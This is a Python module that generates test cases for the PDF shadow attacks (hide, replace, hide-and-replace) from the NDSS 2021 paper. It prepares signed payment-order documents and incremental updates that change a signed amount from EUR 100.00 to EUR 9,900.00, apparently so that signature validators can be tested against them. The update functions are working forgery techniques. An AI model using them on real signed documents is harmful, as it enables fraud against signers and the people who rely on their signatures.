"""Shadow attacks (Mainka, Mladenov, Rohlmann, Schwenk: "Shadow Attacks:
Hiding and Replacing Content in Signed PDFs", NDSS 2021), made with our
own documents, PKI and pyHanko.

A shadow attack has two halves. The attacker prepares the document the
victim signs (`prepared(...)`: the base form document of gen/document.py,
written by hand, with page 1 showing a payment order and whatever the
attack hides in it); after the approval signature, the attacker appends an
incremental update (`ATTACKS[...]`) that changes what page 1 shows without
touching a signed byte. The three classes of the paper:

- hide: the signed revision already holds the content the attacker wants
  shown, covered by an overlay; the update removes the overlay;
- replace: the update adds or changes something that the signed page
  draws or that is drawn over it (a form field's appearance, an
  annotation, a redefined font or form XObject);
- hide-and-replace: the signed revision carries a second page content (or
  page) that nothing references; the update makes the page use it.

Every attack function returns the attacked file and what its update added
or changed: (object number, role) pairs, from how the update was built
(the object numbers pyHanko's writer handed out, or the ones a hand-written
cross-reference section names). gen/expect.py writes them down as
`changesInclude`."""

from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

from . import document
from .document import stream

_ORDER = document.PAGE1 + b"\nBT /F1 12 Tf 72 660 Td (Payment order: the amount below is due on 2026-07-01.) Tj ET"


def _amount(text: str, font: str = "/F1") -> bytes:
    return f"\nBT {font} 14 Tf 72 630 Td (Amount due: {text}) Tj ET".encode()


SIGNED_AMOUNT = "EUR 100.00"  # what the signer sees
ATTACK_AMOUNT = "EUR 9,900.00"  # what the attacker makes page 1 show
# The box the amount line sits in (page coordinates), which overlays cover.
_BOX = (66, 620, 300, 30)

_FONT_RESOURCES = b"/Font << /F1 4 0 R >>"


def _form_xobject(body: bytes, width: int = _BOX[2], height: int = _BOX[3]) -> bytes:
    return stream(
        body,
        f"/Type /XObject /Subtype /Form /BBox [0 0 {width} {height}] /Resources << /Font << /F1 4 0 R >> >>",
    )


def _covered_amount(text: str) -> bytes:
    """An overlay box's content: white background, then the amount."""
    return f"1 g 0 0 {_BOX[2]} {_BOX[3]} re f 0 g BT /F1 14 Tf 6 10 Td (Amount due: {text}) Tj ET".encode()


def _draw_box(name: str) -> bytes:
    return f"\nq 1 0 0 1 {_BOX[0]} {_BOX[1]} cm /{name} Do Q".encode()


# --- the documents the victim signs ---------------------------------------

def prepared(kind: str) -> bytes:
    """The document the attacker hands the victim for `kind` (a key of
    ATTACKS). Objects 1-10 are the base document's (page 1 changed as the
    attack needs), 11 on are the attack's own."""
    base = document.base_objects
    if kind == "hide-overlay-object":
        # Page 1 draws the attacker's amount, then form XObject 11 over it:
        # a white box with the amount the signer is meant to see.
        objects = base(
            page1=_ORDER + _amount(ATTACK_AMOUNT) + _draw_box("Ov"),
            page1_resources=b"<< " + _FONT_RESOURCES + b" /XObject << /Ov 11 0 R >> >>",
        ) + [_form_xobject(_covered_amount(SIGNED_AMOUNT))]
        return document.write_pdf(objects)
    if kind in ("hide-full-overlay", "hide-xref-only"):
        # Page 1's /Contents is [6 11]: 6 is the attacker's page, 11 paints
        # the whole page white and draws the page the signer is meant to see.
        # For the xref-only update, a second, empty `11 0 obj` after object
        # 11, which the xref table does not point to.
        full_overlay = b"1 g 0 0 595 842 re f 0 g\n" + _ORDER + _amount(SIGNED_AMOUNT)
        objects = base(page1=_ORDER + _amount(ATTACK_AMOUNT), page1_contents=b"[6 0 R 11 0 R]") + [
            stream(full_overlay)
        ]
        unlisted = [(11, stream(b""))] if kind == "hide-xref-only" else []
        return document.write_pdf(objects, unlisted=unlisted)
    if kind == "replace-overlay-field":
        # A second text field, `Remark` (11, appearance 12), empty, its
        # widget lying over the amount line.
        x, y, w, h = _BOX
        remark = (
            f"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Remark) /Rect [{x} {y} {x + w} {y + h}] /P 3 0 R /F 4"
            f" /DA (/Helv 12 Tf 0 g) /AP << /N 12 0 R >> >>"
        ).encode()
        empty_ap = stream(
            b"/Tx BMC EMC",
            f"/Type /XObject /Subtype /Form /BBox [0 0 {w} {h}] /Resources << /Font << /Helv 4 0 R >> >>",
        )
        objects = base(
            page1=_ORDER + _amount(SIGNED_AMOUNT), annots=b"[5 0 R 11 0 R]", fields=b"[5 0 R 11 0 R]"
        ) + [remark, empty_ap]
        return document.write_pdf(objects)
    if kind == "replace-overlay-annotation":
        return document.write_pdf(base(page1=_ORDER + _amount(SIGNED_AMOUNT)))
    if kind == "replace-overwrite-font":
        # The amount line is set in font /F2 (11): Helvetica, WinAnsi.
        objects = base(
            page1=_ORDER + _amount(SIGNED_AMOUNT, font="/F2"),
            page1_resources=b"<< /Font << /F1 4 0 R /F2 11 0 R >> >>",
        ) + [b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"]
        return document.write_pdf(objects)
    if kind == "replace-overwrite-xobject":
        # The amount line is form XObject 11, drawn by page 1.
        objects = base(
            page1=_ORDER + _draw_box("Amt"),
            page1_resources=b"<< " + _FONT_RESOURCES + b" /XObject << /Amt 11 0 R >> >>",
        ) + [_form_xobject(f"BT /F1 14 Tf 6 10 Td (Amount due: {SIGNED_AMOUNT}) Tj ET".encode())]
        return document.write_pdf(objects)
    if kind == "hide-replace-contents":
        # Content stream 11, referenced by nothing: page 1 as the attacker wants it.
        objects = base(page1=_ORDER + _amount(SIGNED_AMOUNT)) + [stream(_ORDER + _amount(ATTACK_AMOUNT))]
        return document.write_pdf(objects)
    if kind == "hide-replace-xref-only":
        # A second `6 0 obj` after object 10, which the xref table does
        # not point to: page 1's content as the attacker wants it.
        objects = base(page1=_ORDER + _amount(SIGNED_AMOUNT))
        return document.write_pdf(objects, unlisted=[(6, stream(_ORDER + _amount(ATTACK_AMOUNT)))])
    if kind == "hide-replace-page-tree":
        # Content stream 11 and page 12 (with the Name field's widget),
        # referenced by nothing: page 1 as the attacker wants it.
        hidden_page = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources " + document.PAGE1_RESOURCES
            + b" /Contents 11 0 R /Annots [5 0 R] >>"
        )
        objects = base(page1=_ORDER + _amount(SIGNED_AMOUNT)) + [
            stream(_ORDER + _amount(ATTACK_AMOUNT)),
            hidden_page,
        ]
        return document.write_pdf(objects)
    raise KeyError(kind)


# --- the attacker's updates ------------------------------------------------

def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(BytesIO(pdf))


def _redefine(w: IncrementalPdfFileWriter, number: int, obj) -> None:
    """Object `number` (generation 0) written anew in this update with
    `obj` as its value (what mark_update does for an object read from the
    file, here with a new value)."""
    w.objects[(0, number)] = obj


def _page1_ref(w) -> generic.IndirectObject:
    return w.root["/Pages"]["/Kids"].raw_get(0)


def _stream_object(data: bytes, entries: dict) -> generic.StreamObject:
    return generic.StreamObject({generic.pdf_name(k): v for k, v in entries.items()}, stream_data=data)


def _form_dict(w, width: int = _BOX[2], height: int = _BOX[3]) -> dict:
    """A form XObject's dictionary, its /F1 the base document's Helvetica (4)."""
    font = generic.IndirectObject(4, 0, w)
    return {
        "/Type": generic.pdf_name("/XObject"),
        "/Subtype": generic.pdf_name("/Form"),
        "/BBox": generic.ArrayObject(map(generic.NumberObject, (0, 0, width, height))),
        "/Resources": generic.DictionaryObject(
            {generic.pdf_name("/Font"): generic.DictionaryObject({generic.pdf_name("/F1"): font})}
        ),
    }


def hide_overlay_object(signed: bytes):
    """Hide via referenced object: form XObject 11, the overlay page 1
    draws over the attacker's amount, redefined as an empty form."""
    w = _writer(signed)
    _redefine(w, 11, _stream_object(b"", _form_dict(w)))
    return document.finish(w), [(11, "xobject")]


def hide_full_overlay(signed: bytes):
    """Hide via full overlay: page 1 redefined with /Contents 6 only, so
    the full-page overlay (11) is no longer drawn."""
    w = _writer(signed)
    page_ref = _page1_ref(w)
    page = page_ref.get_object()
    page[generic.pdf_name("/Contents")] = page["/Contents"].raw_get(0)
    w.mark_update(page_ref)
    return document.finish(w), [(page_ref.idnum, "page")]


def hide_xref_only(signed: bytes):
    """Hide via full overlay with an update that is a cross-reference
    section and nothing else: object 11 (the full-page overlay in page 1's
    /Contents array) re-pointed at the second, empty `11 0 obj` the signed
    revision carries, so only content 6 is drawn.

    (Freeing object 11 instead does not hide it everywhere: poppler takes
    a reference to a free object for a broken xref, rebuilds the table by
    scanning and finds the overlay again.)"""
    return _repoint_to_unlisted(signed, 11), [(11, "page-content")]


def replace_overlay_field(signed: bytes):
    """Replace via overlay: the form field `Remark`, whose widget lies over
    the amount line, filled in; its new appearance paints its box white and
    shows the attacker's amount."""
    w = _writer(signed)
    field_ref, ap_ref = document.fill_field(
        w, "Remark", f"Amount due: {ATTACK_AMOUNT}", opaque=True, size=14, at=(6, 10)
    )
    return document.finish(w), [(field_ref.idnum, "widget"), (ap_ref.idnum, "appearance")]


def replace_overlay_annotation(signed: bytes):
    """Replace via overlay: a FreeText annotation added to page 1 over the
    amount line; its appearance paints the box white and shows the
    attacker's amount."""
    w = _writer(signed)
    page_ref = _page1_ref(w)
    page = page_ref.get_object()
    x, y, width, height = _BOX
    ap_ref = w.add_object(_stream_object(_covered_amount(ATTACK_AMOUNT), _form_dict(w, width, height)))
    note = generic.DictionaryObject(
        {
            generic.pdf_name("/Type"): generic.pdf_name("/Annot"),
            generic.pdf_name("/Subtype"): generic.pdf_name("/FreeText"),
            generic.pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (x, y, x + width, y + height))),
            generic.pdf_name("/Contents"): generic.TextStringObject(f"Amount due: {ATTACK_AMOUNT}"),
            generic.pdf_name("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
            generic.pdf_name("/P"): page_ref,
            generic.pdf_name("/F"): generic.NumberObject(4),
            generic.pdf_name("/AP"): generic.DictionaryObject({generic.pdf_name("/N"): ap_ref}),
        }
    )
    note_ref = w.add_object(note)
    page["/Annots"].append(note_ref)
    w.mark_update(page_ref)
    changed = [(note_ref.idnum, "annotation"), (ap_ref.idnum, "appearance"), (page_ref.idnum, "page")]
    return document.finish(w), changed


def replace_overwrite_font(signed: bytes):
    """Replace via overwrite: font 11 (/F2, the amount line's font)
    redefined with an /Encoding whose /Differences draw code 49 (`1`) as
    the glyph `nine`: EUR 100.00 reads EUR 900.00."""
    w = _writer(signed)
    encoding = generic.DictionaryObject(
        {
            generic.pdf_name("/Type"): generic.pdf_name("/Encoding"),
            generic.pdf_name("/BaseEncoding"): generic.pdf_name("/WinAnsiEncoding"),
            generic.pdf_name("/Differences"): generic.ArrayObject(
                [generic.NumberObject(ord("1")), generic.pdf_name("/nine")]
            ),
        }
    )
    font = generic.DictionaryObject(
        {
            generic.pdf_name("/Type"): generic.pdf_name("/Font"),
            generic.pdf_name("/Subtype"): generic.pdf_name("/Type1"),
            generic.pdf_name("/BaseFont"): generic.pdf_name("/Helvetica"),
            generic.pdf_name("/Encoding"): encoding,
        }
    )
    _redefine(w, 11, font)
    return document.finish(w), [(11, "font")]


def replace_overwrite_xobject(signed: bytes):
    """Replace via overwrite: form XObject 11 (the amount line page 1
    draws) redefined to draw the attacker's amount."""
    w = _writer(signed)
    body = f"BT /F1 14 Tf 6 10 Td (Amount due: {ATTACK_AMOUNT}) Tj ET".encode()
    _redefine(w, 11, _stream_object(body, _form_dict(w)))
    return document.finish(w), [(11, "xobject")]


def hide_replace_contents(signed: bytes):
    """Hide-and-replace: page 1 redefined with /Contents 11, the content
    stream the signed revision carried unreferenced."""
    w = _writer(signed)
    page_ref = _page1_ref(w)
    page_ref.get_object()[generic.pdf_name("/Contents")] = generic.IndirectObject(11, 0, w)
    w.mark_update(page_ref)
    return document.finish(w), [(page_ref.idnum, "page")]


def hide_replace_xref_only(signed: bytes):
    """Hide-and-replace with an update that is a cross-reference section
    and nothing else: object 6 (page 1's content) re-pointed at the second
    `6 0 obj` the signed revision carries after object 10."""
    return _repoint_to_unlisted(signed, 6), [(6, "page-content")]


def _repoint_to_unlisted(signed: bytes, number: int) -> bytes:
    """An xref-only update pointing object `number` at the second of the
    two `number 0 obj` definitions in the signed bytes (the unlisted one:
    gen/document.py writes unlisted definitions after the listed ones)."""
    marker = f"\n{number} 0 obj\n".encode()
    first = signed.find(marker)
    second = signed.find(marker, first + 1)
    if first < 0 or second < 0 or signed.find(marker, second + 1) >= 0:
        raise ValueError(f"expected exactly two definitions of object {number}")
    return xref_only_update(signed, {number: (second + 1, 0, "n")})


def hide_replace_page_tree(signed: bytes):
    """Hide-and-replace: the page tree (2) redefined with /Kids [12 8]:
    page 12, which the signed revision carried unreferenced, becomes
    page 1."""
    w = _writer(signed)
    pages_ref = w.root.raw_get("/Pages")
    pages = pages_ref.get_object()
    kids = pages["/Kids"]
    pages[generic.pdf_name("/Kids")] = generic.ArrayObject([generic.IndirectObject(12, 0, w), kids.raw_get(1)])
    w.mark_update(pages_ref)
    return document.finish(w), [(pages_ref.idnum, "pages")]


def xref_only_update(pdf: bytes, entries: dict) -> bytes:
    """An incremental update written by hand that holds no object: a
    cross-reference section with `entries` ({number: (offset or next free
    number, generation, "n" | "f")}) and a trailer carrying over /Size,
    /Root, /Info and /ID, with /Prev the last revision's xref."""
    reader = PdfFileReader(BytesIO(pdf))
    previous = reader.trailer
    out = bytearray(pdf)
    if not out.endswith(b"\n"):
        out += b"\n"
    xref = len(out)
    out += b"xref\n"
    for number in sorted(entries):
        field, generation, in_use = entries[number]
        out += f"{number} 1\n{field:010d} {generation:05d} {in_use} \n".encode()
    trailer = generic.DictionaryObject(
        {
            generic.pdf_name("/Size"): generic.NumberObject(max(int(previous["/Size"]), max(entries) + 1)),
            generic.pdf_name("/Prev"): generic.NumberObject(reader.last_startxref),
        }
    )
    for key in ("/Root", "/Info", "/ID"):
        if key in previous:
            trailer[generic.pdf_name(key)] = previous.raw_get(key)
    buf = BytesIO()
    trailer.write_to_stream(buf, None)
    out += b"trailer\n" + buf.getvalue() + f"\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


# kind → (the attacker's update, the paper's class, the variant). The
# first paragraph of each update's docstring is what expected.json's
# `attack.update` says it does.
ATTACKS = {
    "hide-overlay-object": (hide_overlay_object, "hide", "hide via referenced object"),
    "hide-full-overlay": (hide_full_overlay, "hide", "hide via full overlay"),
    "hide-xref-only": (hide_xref_only, "hide", "hide via full overlay, the update only an xref section"),
    "replace-overlay-field": (replace_overlay_field, "replace", "replace via overlay (form field)"),
    "replace-overlay-annotation": (replace_overlay_annotation, "replace", "replace via overlay (annotation)"),
    "replace-overwrite-font": (replace_overwrite_font, "replace", "replace via overwrite (font)"),
    "replace-overwrite-xobject": (replace_overwrite_xobject, "replace", "replace via overwrite (form XObject)"),
    "hide-replace-contents": (hide_replace_contents, "hide-and-replace", "page /Contents re-pointed"),
    "hide-replace-xref-only": (
        hide_replace_xref_only, "hide-and-replace", "page content defined twice, the update only an xref section"
    ),
    "hide-replace-page-tree": (hide_replace_page_tree, "hide-and-replace", "page tree re-pointed"),
}
